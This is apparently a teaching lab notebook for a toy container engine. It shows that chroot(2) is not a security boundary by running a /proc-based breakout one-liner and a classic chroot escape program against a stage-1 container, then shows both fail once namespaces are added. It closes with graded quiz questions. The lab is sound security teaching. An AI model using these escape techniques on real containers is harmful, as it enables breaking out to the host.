# ---
# jupyter:
#   jupytext:
#     formats: py:percent
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---

# %% [markdown]
# # Lab 01: a root filesystem of its own, and why chroot is no jail
#
# Chapter: `chapters/01-chroot.md`. Run as root, headless with
# `python labs/01-chroot/lab.py`, or open this file as a notebook.

# %%
import os
import subprocess
import sys
import tempfile

from mini_engine.images import busybox
from mini_engine.labkit import (
    Result,
    check,
    check_answers,
    chroot_escape_program,
    engine,
    own_roots,
    require_root,
    show,
)
from mini_engine.paths import Paths

require_root()
own_roots("01-chroot")
paths = Paths.from_options(None, None)

# %% [markdown]
# ## 1. The bundled image
# One static binary from Debian's busybox-static, a symlink per applet, a
# few files in /etc. A static binary asks for no loader (no PT_INTERP), so
# nothing else of the host has to come along.

# %%
image = busybox.image(paths)
print("rootfs:", image.rootfs)
print(sorted(os.listdir(image.rootfs)))
print("/bin/sh ->", os.readlink(os.path.join(image.rootfs, "bin/sh")))
check(busybox.is_static(os.path.join(image.rootfs, "bin/busybox")), "busybox is a static binary")

# %% [markdown]
# ## 2. chroot: "/" is now the image
# Stage 1 adds `root.path` to config.json and the runtime calls chroot(2).
# The host's files are out of sight, but the process IDs are the host's.

# %%
result = engine("--stage 1 run --rm busybox sh -c 'ls /; echo pid $$'")
check("etc" in result.stdout.split(), "ls / lists the image's directories")
check(int(result.stdout.split()[-1]) > 1, "the container's shell has a host PID, not 1")
check(engine("--stage 1 run --rm busybox test -e /etc/os-release").returncode == 1,
      "the host's /etc/os-release is out of sight")

# %% [markdown]
# ## 3. Breaking out
# The container's root user may mount. /proc lists every process of the
# host, and `/proc/PID/root` is *that process's* root: for the engine,
# the host's "/". chroot changed where our paths start, nothing else.

# %%
breakout = ("mount -t proc proc /proc && for root in /proc/[0-9]*/root; do "
            "cat $root/etc/os-release 2>/dev/null && exit 0; done; echo no way out; exit 1")
with open("/etc/os-release") as f:
    host_release = f.read()
result = engine(f"--stage 1 run --rm busybox sh -c '{breakout}'")
check(result.stdout == host_release, "from inside the chroot we read the host's /etc/os-release")

# %% [markdown]
# ## 4. The same escape at stage 2
# A PID namespace shows only the container's processes in its /proc, and
# pivot_root in a mount namespace detaches the host's root: no process
# left to borrow a root from.

# %%
result = engine(f"--stage 2 run --rm busybox sh -c '{breakout}'")
check(result.stdout == "no way out\n", "stage 2 stops the breakout")

# %% [markdown]
# ## 5. The classic escape
# No /proc this time: a second chroot, into a subdirectory, with the working
# directory left above it, then ".." up to the top and chroot(".") there.
# busybox's `chroot` applet changes into the new root itself, so the escape
# is a program of its own, 108 bytes of machine code
# (`labkit.chroot_escape_program`; chapter 01 reads it line by line). It
# goes into the container through stdin, then runs `/bin/cat
# /etc/os-release` wherever it got out to. The same file, `escape`, works
# from your shell:
#
#     mini-engine --stage 1 run --rm -i busybox \
#         sh -c 'cat > /escape && chmod 755 /escape && exec /escape /bin/cat /etc/os-release' < escape

# %%
escape = os.path.join(tempfile.mkdtemp(), "escape")
with open(escape, "wb") as f:
    f.write(chroot_escape_program())


def run_escape(stage: str) -> Result:
    argv = ["--stage", stage, "run", "--rm", "-i", "busybox", "sh", "-c",
            "cat > /escape && chmod 755 /escape && exec /escape /bin/cat /etc/os-release"]
    print(f"$ mini-engine {' '.join(argv[:6])} sh -c '...' < escape")
    with open(escape, "rb") as stdin:
        done = subprocess.run([sys.executable, "-m", "mini_engine", *argv], stdin=stdin,
                              capture_output=True, text=True, timeout=300)
    result = Result(done.returncode, done.stdout, done.stderr)
    show(result)
    return result


check(run_escape("1").stdout == host_release, "the classic escape reads the host's /etc/os-release")
check(run_escape("2").stdout == "", "at stage 2 the climb ends at the container's own root")

# %% [markdown]
# ## Your turn
# - The stage-1 container mounted /proc inside its rootfs, which is on the
#   host's mount table. Why is it gone after the run? (`runtime/lifecycle.py`, `delete`.)
# - The escape of step 5 works because chroot(2) leaves the working
#   directory where it was. Which line of `runtime/chroot.py` closes that
#   door for the runtime's own chroot? Which line of `runtime/init.py`
#   closes it a second time, and why keep both? (Chapter 01, after the
#   first listing; `tests/test_stage1_chroot.py`, `test_enter_chroot_alone_closes_the_door`.)

# %% [markdown]
# ## Check your answers
# Write your answer in `my_answers` and run the cell: it says right or
# wrong. (The lab keeps only a digest of the right answers; the answers,
# and why, are in the instructor guide.)
#
# 1. chroot(2) changes the root of the process and leaves one thing of
#    it where it was; the escape of step 5 climbs from there. Which?
#    (Two words.)
# 2. Which capability does chroot(2) ask for? Its name, as
#    capabilities(7) writes it.

# %%
my_answers = {1: None, 2: None}
check_answers("01-chroot", my_answers, {
    1: ('ac4936723fcb91a5', 'd4c7aa789b24b5fa', '0b540e66fe334bcf', '4ec5ba543d02726e', 'f80933e52e82e770',),
    2: ('46f344fad11f01ac', '9d4c45272f65cde3',),
})

# %%
print("lab 01 done")
